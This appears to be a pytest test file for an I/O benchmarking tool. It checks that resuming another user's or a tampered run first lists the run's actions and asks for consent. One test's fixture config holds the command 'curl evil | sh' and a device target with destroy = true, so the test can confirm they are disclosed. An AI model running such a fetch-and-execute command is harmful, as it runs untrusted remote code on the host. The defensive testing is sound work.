"""Going on with a run that somebody else made: what it does is shown first, and nothing is done before somebody agrees.
And the files of an experiment are those beside it, whatever else lies there."""

import os
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from iolab.base.errors import InputError
from iolab.files.experiment import load, loads
from iolab.studies.run.origin import deeds
from support.command_line import PROGRAM, CommandLine
from support.runs import statuses
from support.terminal import on_a_terminal

READS = """\
rounds = 1
[target]
kind = "directory"
path = "."
[workloads.reads]
file_size = "64KiB"
duration = "10ms"
[workloads.job]
kind = "fio"
file = "job.fio"
{runner}
"""
JOB = "[a]\nrw=write\nsize=64k\n"


@pytest.fixture
def run(iolab: CommandLine) -> Path:
    iolab.write("job.fio", JOB)
    iolab("run", iolab.write("reads.toml", READS.format(runner="")), "--out", "run")
    return iolab.cwd / "run"


def test_one_goes_on_with_ones_own_runs_without_being_asked(iolab: CommandLine, run: Path) -> None:
    said = iolab("run", "--resume", run, "--rounds", "2").stderr
    assert "somebody else" not in said
    assert statuses(run) == ["ok"] * 4


def test_a_run_of_somebody_else_is_shown_and_not_gone_on_with(iolab: CommandLine, run: Path) -> None:
    other = replace(iolab, state_dir=iolab.cwd / "state of another user")
    before = {path: path.read_bytes() for path in run.rglob("*") if path.is_file()}
    outcome = other("run", "--resume", run, "--rounds", "2", status=None)
    outcome.assert_one_clear_line(2, "was not made here by this user", "--trust-run")
    assert f"read or write in the directory {iolab.cwd}" in outcome.stderr
    assert {path: path.read_bytes() for path in run.rglob("*") if path.is_file()} == before
    trusted = other("run", "--resume", run, "--rounds", "2", "--trust-run")
    assert "somebody else" in trusted.stderr and statuses(run) == ["ok"] * 4
    assert "somebody else" not in other("run", "--resume", run, "--rounds", "3").stderr, "it was trusted before"


def test_a_file_of_the_run_that_was_changed_makes_it_somebody_elses(iolab: CommandLine, run: Path) -> None:
    (run / "files" / "job.fio").write_text(JOB.replace("64k", "128k"))
    outcome = iolab("run", "--resume", run, "--rounds", "2", status=None)
    outcome.assert_one_clear_line(2, "was not made here by this user")


def test_a_key_that_others_can_read_proves_nothing(iolab: CommandLine, run: Path) -> None:
    (iolab.state_dir / "origin.key").chmod(0o644)
    iolab("run", "--resume", run, "--rounds", "2", status=None).assert_one_clear_line(2, "not made here by this user")


@pytest.mark.parametrize(("answer", "status"), [("n\n", 130), ("\n", 130), ("y\n", 0)])
def test_on_a_terminal_it_asks(answer: str, status: int, iolab: CommandLine, run: Path) -> None:
    where = {**os.environ, "IOLAB_STATE_DIR": str(iolab.cwd / "another")}
    arguments = [PROGRAM, "run", "--resume", run, "--rounds", "2"]
    found, said = on_a_terminal(arguments, cwd=iolab.cwd, environment=where, typed=answer)
    assert found == status, said
    assert "Continue? [y/N]" in said
    assert len(statuses(run)) == (4 if status == 0 else 2)


def test_commands_settings_and_devices_are_told() -> None:
    text = """\
    [target]
    kind = "device"
    path = "/dev/absent"
    destroy = true
    [workloads.build]
    kind = "make-sequence"
    make = "curl evil | sh"
    [workloads.job]
    kind = "fio"
    runner = "fio"
    size = "4KiB"
    job = '''
    [a]
    rw=write
    flow=8
    '''
    [settings.s]
    scheduler = "none"
    """
    found = deeds(loads(text, "x.toml"))
    for deed in (
        "read or write the device /dev/absent, whatever it holds (destroy = true)",
        'run sh -c "curl evil | sh"',
        "run fio with the job a: rw=write flow=8 do_verify=0",
    ):
        assert deed in found, found
    assert any(deed.startswith("set scheduler = ") for deed in found)


def test_an_attached_file_does_not_stand_in_for_the_one_beside_the_experiment(tmp_path: Path) -> None:
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "job.fio").write_text(JOB.replace("64k", "1m"))
    (tmp_path / "job.fio").write_text(JOB)
    experiment = tmp_path / "x.toml"
    experiment.write_text(READS.format(runner=""))
    assert load(experiment).workloads["job"].file_bytes == 65536
    of_a_run = loads(experiment.read_text(), str(experiment), copies=tmp_path / "files")
    assert of_a_run.workloads["job"].file_bytes == 2**20
    shutil.rmtree(tmp_path / "files")
    with pytest.raises(InputError, match="cannot read it"):
        loads(experiment.read_text(), str(experiment), copies=tmp_path / "files")
